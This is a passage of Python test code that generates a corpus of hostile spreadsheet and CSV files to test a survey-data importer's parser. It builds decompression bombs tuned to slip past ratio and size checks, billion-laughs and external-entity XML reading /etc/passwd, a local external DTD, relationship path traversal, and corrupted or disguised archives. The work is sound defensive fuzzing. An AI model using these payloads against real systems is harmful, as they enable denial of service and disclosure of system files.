    strings = _read_part(data, "xl/sharedStrings.xml")
    sheet = sheet.replace(b"</sheetData>", f'<row r="{row}">{cell}</row></sheetData>'.encode())
    return package([sheet], strings=strings)


def _read_part(data: bytes, name: str) -> bytes:
    import zipfile

    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read(name)


_MB = 1024 * 1024


def _bomb(kind: str, megabytes: int) -> bytes:
    """A workbook one of whose parts expands to about `megabytes` MB."""
    head = sheet_xml(
        '<row r="1"><c r="A1" t="inlineStr"><is><t>Email</t></is></c>'
        '<c r="B1" t="inlineStr"><is><t>CON1</t></is></c></row>'
    )
    cut = head.index(b"</sheetData>")
    before, after = head[:cut], head[cut:]
    sheet_name = "xl/worksheets/sheet1.xml"

    def unit_block(unit: bytes) -> bytes:
        return unit * (_MB // len(unit))

    if kind == "rows":
        unit = b'<row><c t="inlineStr"><is><t>a@b.org</t></is></c><c><v>4</v></c></row>'
        return package([bomb_part(sheet_name, before, unit_block(unit), megabytes, after)])
    if kind.startswith(("rows_every_", "cells_every_")):
        # A random number every n-th row (cell): compressed only 50-85 to 1, like a big real
        # export, so no ratio check stops it; at 95 MB no size check either: only limits on
        # rows and cells, counted while streaming, can.
        every = int(kind.rsplit("_", 1)[1])
        if kind.startswith("rows"):
            return package([bomb_part(sheet_name, before, _mixed_rows(every), megabytes, after)])
        block = _mixed_rows(every, unit=b"<c><v>1</v></c>", random_unit=b"<c><v>%d</v></c>")
        return package(
            [bomb_part(sheet_name, before + b"<row>", block, megabytes, b"</row>" + after)]
        )
    if kind == "one_row_cells":
        unit = b"<c><v>1</v></c>"
        return package(
            [
                bomb_part(
                    sheet_name, before + b"<row>", unit_block(unit), megabytes, b"</row>" + after
                )
            ]
        )
    if kind == "whitespace":
        return package([bomb_part(sheet_name, before, b" " * _MB, megabytes, after)])
    if kind == "comment":
        return package(
            [bomb_part(sheet_name, before + b"<!--", b"-" * _MB, megabytes, b"-->" + after)]
        )
    if kind == "shared_string":
        sst = (
            f'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="{_MAIN}" count="1" '
            'uniqueCount="1"><si><t>'
        ).encode()
        strings = bomb_part("xl/sharedStrings.xml", sst, b"A" * _MB, megabytes, b"</t></si></sst>")
        sheet = sheet_xml('<row r="1"><c r="A1" t="s"><v>0</v></c></row>')
        return package([sheet], strings=strings)
    if kind == "many_shared_strings":
        sst = f'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="{_MAIN}">'.encode()
        strings = bomb_part(
            "xl/sharedStrings.xml", sst, unit_block(b"<si><t>x</t></si>"), megabytes, b"</sst>"
        )
        sheet = sheet_xml('<row r="1"><c r="A1" t="s"><v>0</v></c></row>')
        return package([sheet], strings=strings)
    if kind == "inline_string":
        return package(
            [
                bomb_part(
                    sheet_name,
                    before + b'<row><c t="inlineStr"><is><t>',
                    b"B" * _MB,
                    megabytes,
                    b"</t></is></c></row>" + after,
                )
            ]
        )
    if kind == "styles":
        styles = bomb_part(
            "xl/styles.xml",
            _STYLES[: _STYLES.index(b"<cellXfs")] + b"<cellXfs>",
            unit_block(b'<xf numFmtId="22"/>'),
            megabytes,
            b"</cellXfs></styleSheet>",
        )
        return package([sheet_xml("")], styles=styles)
    if kind == "unreferenced_part":
        extra = bomb_part("xl/media/image1.png", b"", b"\x00" * _MB, megabytes, b"")
        return package([xlsx_sheet_only()], extra=[extra])
    if kind == "lying_size":
        bomb = bomb_part(sheet_name, before, b" " * _MB, megabytes, after)
        return package([Part(bomb.name, bomb.payload, bomb.crc, bomb.size, declared=1000)])
    if kind == "declared_dimension":
        head2 = sheet_xml("", dimension="A1:XFD1048576")
        cut2 = head2.index(b"</sheetData>")
        unit = b'<row><c t="inlineStr"><is><t>x</t></is></c></row>'
        return package(
            [bomb_part(sheet_name, head2[:cut2], unit_block(unit), megabytes, head2[cut2:])]
        )
    if kind == "many_sheets":
        unit = b"<row><c><v>1</v></c><c><v>2</v></c></row>"
        small = bomb_part("xl/worksheets/sheet2.xml", before, unit * 20_000, 1, after)
        first = xlsx_sheet_only()
        targets = ["worksheets/sheet1.xml"] + ["worksheets/sheet2.xml"] * megabytes
        return package([first, small], targets=targets)
    raise ValueError(kind)


def xlsx_sheet_only() -> bytes:
    """The Microsoft Forms sample's first sheet, strings inline (no sharedStrings needed)."""
    rows = sample("microsoft_forms.xlsx").rows
    body = "".join(
        f'<row r="{r}">'
        + "".join(
            _inline(f"{column_name(c)}{r}", _text(v)) for c, v in enumerate(row) if v is not None
        )
        + "</row>"
        for r, row in enumerate(rows, 1)
    )
    return sheet_xml(body)


def _mixed_rows(
    every: int,
    *,
    unit: bytes = b'<row><c t="inlineStr"><is><t>a@b.org</t></is></c><c><v>4</v></c></row>',
    random_unit: bytes = b"<row><c><v>%d</v></c></row>",
) -> bytes:
    """1 MB of worksheet rows (or cells), one in `every` holding a random number."""
    rng = random.Random(SEED + every)
    out = bytearray()
    while len(out) < _MB:
        out += random_unit % rng.randrange(10**6)
        out += unit * (every - 1)
    return bytes(out)


_BOMBS = [
    ("rows_every_10", 95),
    ("rows_every_5", 95),
    ("cells_every_10", 95),
    ("rows_every_10", 1600),
    ("rows", 256),
    ("rows", 1024),
    ("rows", 4000),
    ("one_row_cells", 512),
    ("whitespace", 1024),
    ("whitespace", 4000),
    ("comment", 1024),
    ("shared_string", 512),
    ("many_shared_strings", 512),
    ("inline_string", 300),
    ("styles", 512),
    ("unreferenced_part", 2048),
    ("lying_size", 1024),
    ("declared_dimension", 512),
    ("many_sheets", 1000),
]


def _xlsx_bomb() -> SpecIter:
    xl = sample("microsoft_forms.xlsx")
    for kind, megabytes in _BOMBS:
        label = f"{kind}_{megabytes}" if kind == "many_sheets" else f"{kind}_{megabytes}mb"
        yield _file(xl, label, functools.partial(_bomb, kind, megabytes))


_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE sst [<!ENTITY a "aaaaaaaaaa">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{("&" + chr(97 + n) + ";") * 10}">' for n in range(9))
    + f']><sst xmlns="{_MAIN}"><si><t>&j;</t></si></sst>'
)


def _xlsx_xml() -> SpecIter:
    xl = sample("microsoft_forms.xlsx")
    sheet_a1 = sheet_xml('<row r="1"><c r="A1" t="s"><v>0</v></c></row>')
    cases: dict[str, Callable[[], bytes]] = {
        "billion_laughs_strings": lambda: package([sheet_a1], strings=_LAUGHS.encode()),
        "billion_laughs_sheet": lambda: package(
            [_LAUGHS.replace("<sst", "<x").replace("</sst>", "</x>").encode()]
        ),
        "external_entity_file": lambda: package(
            [sheet_a1],
            strings=(
                '<?xml version="1.0"?><!DOCTYPE sst [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
                f'<sst xmlns="{_MAIN}"><si><t>&x;</t></si></sst>'
            ).encode(),
        ),
        "external_dtd": lambda: package(
            [sheet_a1],
            strings=(
                '<?xml version="1.0"?><!DOCTYPE sst SYSTEM "http://127.0.0.1:9/x.dtd">'
                f'<sst xmlns="{_MAIN}"><si><t>x</t></si></sst>'
            ).encode(),
        ),
        "raw_control_char": lambda: package(
            [sheet_xml('<row r="1"><c r="A1" t="inlineStr"><is><t>a\x01b</t></is></c></row>')]
        ),
        "invalid_utf8_in_xml": lambda: package(
            [
                sheet_xml(
                    '<row r="1"><c r="A1" t="inlineStr"><is><t>ab</t></is></c></row>'
                ).replace(b"ab", b"a\xff\xfeb")
            ]
        ),
        "truncated_sheet_xml": lambda: package([xlsx_sheet_only()[:-200]]),
        "not_xml_sheet": lambda: package([b"Timestamp,Email\r\n1,2\r\n"]),
        "shared_index_out_of_range": lambda: package(
            [
                sheet_xml(
                    '<row r="1"><c r="A1" t="s"><v>999999</v></c>'
                    '<c r="B1" t="s"><v>-1</v></c></row>'
                )
            ]
        ),
        "shared_index_not_number": lambda: package(
            [sheet_xml('<row r="1"><c r="A1" t="s"><v>abc</v></c></row>')]
        ),
        "date_cell_iso": lambda: package(
            [sheet_xml('<row r="1"><c r="A1" t="d"><v>0000-00-00T25:61:00</v></c></row>')]
        ),
        "bool_cell_garbage": lambda: package(
            [sheet_xml('<row r="1"><c r="A1" t="b"><v>maybe</v></c></row>')]
        ),
        "deep_nesting": lambda: package(
            [
                sheet_xml(
                    '<row r="1"><c r="A1" t="inlineStr"><is>'
                    + "<r>" * 100_000
                    + "</r>" * 100_000
                    + "</is></c></row>"
                )
            ]
        ),
        "huge_attribute": lambda: package(
            [sheet_xml(f'<row r="1" x="{"a" * 5_000_000}"><c r="A1"><v>1</v></c></row>')]
        ),
        "strict_ooxml_namespace": lambda: package(
            [
                xlsx_sheet_only().replace(
                    _MAIN.encode(), b"http://purl.oclc.org/ooxml/spreadsheetml/main"
                )
            ]
        ),
        "rels_path_traversal": lambda: package(
            [xlsx_sheet_only()], targets=["../../../../etc/passwd"]
        ),
        "rels_absolute_target": lambda: package(
            [xlsx_sheet_only()], targets=["/xl/worksheets/sheet1.xml"]
        ),
        "rels_missing_target": lambda: package(
            [xlsx_sheet_only()], targets=["worksheets/nothing.xml"]
        ),
        "rels_external_url": lambda: package(
            [xlsx_sheet_only()], targets=["http://127.0.0.1:9/sheet.xml"]
        ),
        "sheet_is_directory_name": lambda: package([xlsx_sheet_only()], targets=["worksheets/"]),
    }
    for variant, make in cases.items():
        yield _file(xl, variant, make)


def _not_workbook() -> SpecIter:
    g = sample("google_forms.csv")
    xl = sample("microsoft_forms.xlsx")

    def sample_parts() -> list[Part]:
        import zipfile

        with zipfile.ZipFile(io.BytesIO(xl.data)) as archive:
            return [part(i.filename, archive.read(i.filename)) for i in archive.infolist()]

    cases: dict[str, Callable[[], bytes]] = {
        "zip_of_text": lambda: zip_bytes([part("hello.txt", b"hello")]),
        "zip_of_csv": lambda: zip_bytes([part("google_forms.csv", g.data)]),
        "zip_of_xlsx": lambda: zip_bytes([part("microsoft_forms.xlsx", xl.data, stored=True)]),
        "empty_zip": lambda: zip_bytes([]),
        "zip_local_header_only": lambda: zip_bytes([part("a.txt", b"a")])[:40],
        "docx": lambda: zip_bytes(
            [part("[Content_Types].xml", b"<Types/>"), part("word/document.xml", b"<w:document/>")]
        ),
        "ods": lambda: zip_bytes(
            [
                part("mimetype", b"application/vnd.oasis.opendocument.spreadsheet", stored=True),
                part("content.xml", b"<office:document-content/>"),
            ]
        ),
        "xlsb": lambda: zip_bytes(
            [part("[Content_Types].xml", b"<Types/>"), part("xl/workbook.bin", b"\x83\x01\x00")]
        ),
        "workbook_xml_only": lambda: zip_bytes([part("xl/workbook.xml", b"<workbook/>")]),
        "sheet_part_missing": lambda: zip_bytes(
            [p for p in sample_parts() if not p.name.startswith("xl/worksheets/")]
        ),
        "encrypted_flag": lambda: zip_bytes(
            [Part(p.name, p.payload, p.crc, p.size, p.method, flags=1) for p in sample_parts()]
        ),
        "method_bzip2": lambda: zip_bytes(
            [Part(p.name, p.payload, p.crc, p.size, 12) for p in sample_parts()]
        ),
        "method_lzma": lambda: zip_bytes(
            [Part(p.name, p.payload, p.crc, p.size, 14) for p in sample_parts()]
        ),
        "method_aes": lambda: zip_bytes(
            [Part(p.name, p.payload, p.crc, p.size, 99) for p in sample_parts()]
        ),
        "wrong_crc": lambda: zip_bytes(
            [Part(p.name, p.payload, p.crc ^ 1, p.size) for p in sample_parts()]
        ),
        "duplicate_entries": lambda: zip_bytes([*sample_parts(), *reversed(sample_parts())]),
        "ten_thousand_entries": lambda: zip_bytes(
            [*sample_parts(), *(part(f"xl/media/{n}.bin", b"") for n in range(10_000))]
        ),
        "central_directory_beyond_end": lambda: _bad_central(xl.data),
        "csv_appended_to_zip": lambda: xl.data + g.data,
        "zip_with_long_comment": lambda: zip_bytes(sample_parts(), comment=b"x" * 65_535),
    }
    for variant, make in cases.items():
        yield _file(None, variant, make, ext=".xlsx")
    yield _file(g, "gzip_of_csv", lambda: gzip.compress(g.data, mtime=0))
    yield _file(g, "bz2_of_csv", lambda: bz2.compress(g.data))
    yield _file(g, "xz_of_csv", lambda: lzma.compress(g.data))


def _bad_central(data: bytes) -> bytes:
    end = data.rfind(b"PK\x05\x06")
    return data[: end + 16] + struct.pack("<I", 0x7FFFFFFF) + data[end + 20 :]


def _xls() -> SpecIter:
    rng = random.Random(SEED + 2)
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    cases = {
        "ole2_zeros": ole + b"\x00" * 504,
        "ole2_random": ole + rng.randbytes(4096),
        "ole2_magic_only": ole,
        "sylk": b'ID;P\r\nC;Y1;X1;K"Timestamp"\r\nC;Y1;X2;K"Email Address"\r\nE\r\n',
        "html_table": b"<html><body><table><tr><td>Timestamp</td><td>Email Address</td></tr>"
        b"<tr><td>2026-11-05</td><td>d001.a@example.org</td></tr></table></body></html>",
        "spreadsheetml_2003": b'<?xml version="1.0"?><Workbook xmlns="urn:schemas-microsoft-com:'
        b'office:spreadsheet"><Worksheet><Table><Row><Cell><Data ss:Type="String">Email</Data>'
        b"</Cell></Row></Table></Worksheet></Workbook>",
        "rtf": b"{\\rtf1\\ansi Timestamp, Email Address\\par}",
        "pdf": b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n",
        "png": b"\x89PNG\r\n\x1a\n" + rng.randbytes(200),
        "gif": b"GIF89a" + rng.randbytes(100),
        "elf": b"\x7fELF\x02\x01\x01" + rng.randbytes(300),
        "seven_zip": b"7z\xbc\xaf\x27\x1c" + rng.randbytes(100),
        "utf8_text_named_xls": sample("google_forms.csv").data,
    }
    for variant, data in cases.items():
        yield _file(None, variant, _const(data), ext=".xls")


def _random() -> SpecIter:
    for n in range(40):
        size = int(10 ** random.Random(SEED + 100 + n).uniform(0, 5.3))
        yield _file(None, f"bytes_{n:02d}_{size}", functools.partial(_random_bytes, n, size))
    for n in range(12):
        yield _file(None, f"printable_{n:02d}", functools.partial(_random_text, n))
    for n in range(12):
        yield _file(None, f"csv_noise_{n:02d}", functools.partial(_csv_noise, n))


def _random_bytes(n: int, size: int) -> bytes:
    return random.Random(SEED + 200 + n).randbytes(size)


def _random_text(n: int) -> bytes:
    rng = random.Random(SEED + 300 + n)
    alphabet = "".join(chr(c) for c in range(32, 127)) + "\r\n\t"
    return "".join(rng.choices(alphabet, k=rng.randrange(1, 50_000))).encode()


_NOISE_CELLS = [
    "",
    "4",
    "Never",
    "Once",
    "d001.a@example.org",
    "D-001A",
    "2026-11-05 18:44:39",
    '"',
    '""',
    ",",
    ";",
    "\n",
    "=1+1",
    "Timestamp",
    "Email Address",
    "SAF1",
    "x" * 50,
]


def _csv_noise(n: int) -> bytes:
    rng = random.Random(SEED + 400 + n)
    header = ["Timestamp", "Email Address", *rng.sample(CODES, 10)]
    lines = [",".join(header)]
    for _ in range(rng.randrange(1, 300)):
        lines.append(",".join(rng.choice(_NOISE_CELLS) for _ in range(rng.randrange(0, 20))))
    return "\r\n".join(lines).encode()


def _mutation() -> SpecIter:
    for s in samples():
        for n in range(10):
            yield _file(s, f"m{n:02d}", functools.partial(_mutate, s.name, n))


def _mutate(name: str, n: int) -> bytes:
    rng = random.Random(f"{SEED}-{name}-{n}")
    data = bytearray(sample(name).data)
    for _ in range(rng.randrange(1, 5)):
        how = rng.choice(["flip", "insert", "delete", "duplicate"])
        at = rng.randrange(0, len(data) + 1)
        if how == "flip" and at < len(data):
            data[at] ^= rng.randrange(1, 256)
        elif how == "insert":
            data[at:at] = rng.randbytes(rng.randrange(1, 9))
        elif how == "delete":
            del data[at : at + rng.randrange(1, 400)]
        else:
            data[at:at] = data[at : at + rng.randrange(1, 400)]
    return bytes(data)


_KIND_GENERATORS: dict[str, Callable[[], SpecIter]] = {
    "truncated": _truncated,
    "encoding": _encoding,
    "nul": _nul,
    "separator": _separator,
    "quoting": _quoting,
    "shifted_row": _shifted_row,
    "safety_blank": _safety_blank,
    "safety_shifted": _safety_shifted,
    "row_shape": _row_shape,
    "header": _header,
    "respondent": _respondent,
    "duplicate": _duplicate,
    "markup": _markup,
    "number": _number,
    "date": _date,
    "wide": _wide,
    "many_rows": _many_rows,
    "empty": _empty,
    "xlsx_dimension": _dimension,
    "xlsx_bomb": _xlsx_bomb,
    "xlsx_xml": _xlsx_xml,
    "not_workbook": _not_workbook,
    "xls": _xls,
    "random": _random,
    "mutation": _mutation,
}
assert set(_KIND_GENERATORS) == set(KINDS)


def specs(kinds: Sequence[str] | None = None) -> Iterator[Spec]:
    """Every file of the corpus (or of the given kinds), not yet built, in a fixed order."""
    for kind in kinds or KINDS:
        for d in _KIND_GENERATORS[kind]():
            yield Spec(f"{kind}__{d.stem}__{d.variant}{d.ext}", kind, d.make, d.expect)


def generate(kinds: Sequence[str] | None = None) -> Iterator[HostileFile]:
    """Every file of the corpus, built lazily one at a time."""
    for spec in specs(kinds):
        yield spec.build()


def subset(per_kind: int = 3, *, heavy_per_kind: int = 1) -> list[Spec]:
    """A fast, representative part of the corpus: files spread evenly over each kind (fewer of
    the kinds whose files are big), every kind at least once."""
    heavy = {"many_rows", "wide", "xlsx_bomb"}
    chosen: list[Spec] = []
    for kind in KINDS:
        all_of_kind = list(specs([kind]))
        want = heavy_per_kind if kind in heavy else per_kind
        step = max(1, len(all_of_kind) // want)
        chosen.extend(all_of_kind[::step][:want])
    return chosen
